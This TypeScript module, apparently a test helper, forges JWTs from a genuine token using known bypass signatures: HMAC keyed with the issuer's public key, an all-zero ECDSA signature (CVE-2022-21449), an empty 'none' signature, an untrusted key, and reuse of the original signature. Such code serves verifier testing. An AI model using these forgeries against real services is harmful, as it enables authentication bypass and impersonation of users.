import { createHmac, createPrivateKey, createPublicKey, generateKeyPairSync, type KeyObject, sign } from 'node:crypto'
import { decodeJwt, decodeProtectedHeader, type JWK } from 'jose'

/** Kind of signature under a forged token. */
export type Signature =
  /** The issuer's own key: only the claims or the header are wrong. */
  | 'issuer'
  /** A P-256 key that nobody knows. */
  | 'stranger'
  /** HMAC with the issuer's public key as the secret. @see RFC 8725 §2.1 */
  | 'hmac-public-pem'
  | 'hmac-public-jwk'
  /** All zero bytes: passes verifiers that forget the range check (CVE-2022-21449). */
  | 'zero'
  /** An empty third segment. */
  | 'none'
  /** The signature of the original token over other content. */
  | 'original'

export interface Forgery {
  /** A genuine token to start from. */
  original: string
  signature: Signature
  /** Replaces claims; undefined removes one. */
  claims?: Record<string, unknown>
  /** Replaces header parameters; undefined removes one. */
  header?: Record<string, unknown>
}

const stranger = generateKeyPairSync('ec', { namedCurve: 'P-256' })

/** The public half of the key behind `'stranger'`, for tokens that bring their own key along. */
export const strangerPublicJwk: JWK = stranger.publicKey.export({ format: 'jwk' })

/**
 * A token like the original with exactly the given differences, signed as told. Nothing is checked: that is the point.
 *
 * @throws Error when the issuer's private key is needed and not among `keys`
 */
export function forgeToken(forgery: Forgery, keys: readonly JWK[]): string {
  const header = changed(decodeProtectedHeader(forgery.original), forgery.header)
  const claims = changed(decodeJwt(forgery.original), forgery.claims)
  const content = `${encode(header)}.${encode(claims)}`
  return `${content}.${signatureOf(content, forgery, keys)}`
}

function changed(original: object, changes: Record<string, unknown> = {}): Record<string, unknown> {
  // JSON.stringify drops undefined members: that is how a claim is removed.
  return { ...original, ...changes }
}

function encode(value: object): string {
  return Buffer.from(JSON.stringify(value)).toString('base64url')
}

function signatureOf(content: string, { original, signature }: Forgery, keys: readonly JWK[]): string {
  switch (signature) {
    case 'issuer':
      return es256(content, issuerKey(original, keys))
    case 'stranger':
      return es256(content, stranger.privateKey)
    case 'hmac-public-pem':
      return hs256(content, publicKey(original, keys).export({ type: 'spki', format: 'pem' }).toString())
    case 'hmac-public-jwk':
      return hs256(content, JSON.stringify(publicKey(original, keys).export({ format: 'jwk' })))
    case 'zero':
      return Buffer.alloc(64).toString('base64url')
    case 'none':
      return ''
    case 'original':
      return original.split('.')[2] ?? ''
  }
}

function issuerKey(original: string, keys: readonly JWK[]): KeyObject {
  const { kid } = decodeProtectedHeader(original)
  const jwk = keys.find((key) => key.kid === kid)
  if (!jwk) throw new Error(`The signing key ${kid} is not among the target's secrets`)
  return createPrivateKey({ key: { ...jwk }, format: 'jwk' })
}

function publicKey(original: string, keys: readonly JWK[]): KeyObject {
  return createPublicKey(issuerKey(original, keys))
}

function es256(content: string, key: KeyObject): string {
  // JWS wants r and s side by side, not DER. RFC 7518 §3.4
  return sign('sha256', Buffer.from(content), { key, dsaEncoding: 'ieee-p1363' }).toString('base64url')
}

function hs256(content: string, secret: string): string {
  return createHmac('sha256', secret).update(content).digest('base64url')
}
